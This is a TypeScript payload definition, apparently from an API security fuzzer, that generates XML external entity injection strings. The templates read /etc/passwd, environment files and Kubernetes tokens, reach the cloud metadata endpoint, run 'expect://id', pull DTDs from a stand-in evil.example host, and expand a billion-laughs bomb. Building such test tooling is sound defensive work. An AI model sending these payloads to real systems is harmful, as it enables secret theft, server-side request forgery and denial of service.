import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-xxe',
  title: 'external entities in XML',
  owasp: ['API8:2023'],
  inputs: ['xml'],
  rules: {
    start: [
      '‹head›<!DOCTYPE ‹name› [<!ENTITY x SYSTEM "‹address›">]><a>&x;</a>',
      '‹head›<!DOCTYPE ‹name› [<!ENTITY % p SYSTEM "‹outside›.dtd"> %p;]><a/>',
      '<!DOCTYPE ‹name› [<!ENTITY x PUBLIC "‹hex›" "‹address›">]><a>&x;</a>',
      '‹head›<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><l>&c;</l>',
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="‹address›"/></a>',
    ],
    head: ['', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>'],
    address: [
      'file://‹file›',
      'php://filter/read=convert.base64-encode/resource=‹name›.php',
      '‹outside›',
      'http://169.254.169.254/latest/meta-data/',
      'expect://id',
      'jar:http://‹ip›/‹name›.jar!/a',
    ],
    file: [
      '/etc/passwd',
      '/etc/hosts',
      '/proc/self/environ',
      '/app/.env',
      '/var/run/secrets/kubernetes.io/serviceaccount/token',
    ],
    outside: ['http://‹ip›/‹hex›', 'https://‹name›.evil.example/‹hex›', 'ftp://‹ip›/‹name›'],
  },
})
